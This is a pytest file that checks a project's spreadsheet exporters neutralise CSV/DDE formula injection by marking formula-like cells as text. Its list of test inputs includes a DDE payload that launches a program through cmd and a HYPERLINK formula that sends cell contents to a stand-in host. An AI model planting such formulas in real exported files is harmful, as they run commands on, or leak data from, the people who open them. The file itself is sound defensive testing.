"""Formula injection (CSV/DDE): text that a spreadsheet would run stays text in every file we write."""

from __future__ import annotations

import io
from decimal import Decimal
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook

from yikatong.core.spreadsheet import append_row, safe_cell
from yikatong.workflow.export import csv_bytes, xlsx_bytes

DANGEROUS = ['=1+1', '+SUM(A1:A2)', '-2+3', '@SUM(A1)', '\t=1', '\r=cmd|"/c calc"!A0',
             '=HYPERLINK("http://x/?"&A2,"详情")']


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_gets_the_text_marker_in_csv(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, Decimal("-12.50"), 0, "-12.50", "+86", "张三", "", None, "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_workbook_cells_are_text_and_numbers_stay_numbers():
    book = Workbook()
    append_row(book.active, ["=1+1", -5, Decimal("-1.5"), "-3", "@x"])
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in row] == ["=1+1", -5, -1.5, "-3", "@x"]
    assert [c.data_type for c in row] == ["s", "n", "n", "s", "s"]


def test_the_shared_writers_and_the_import_error_report(tmp_path):
    rows = [["=1+1", -7, "ok"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["a", "b", "c"], rows))).active
    assert (sheet["A2"].data_type, sheet["B2"].value) == ("s", -7)
    assert csv_bytes(["a", "b", "c"], rows).decode("utf-8-sig").splitlines()[1] == "'=1+1,-7,ok"

    from rich.console import Console

    from yikatong.imports.commands import write_error_report

    path = tmp_path / "errors.csv"
    write_error_report(Console(file=io.StringIO()), path, [SimpleNamespace(row=2, column="姓名", value="@SUM(1)",
                                                                           reason="格式错误")])
    assert path.read_text(encoding="utf-8-sig").splitlines()[1] == "2,姓名,'@SUM(1),格式错误"
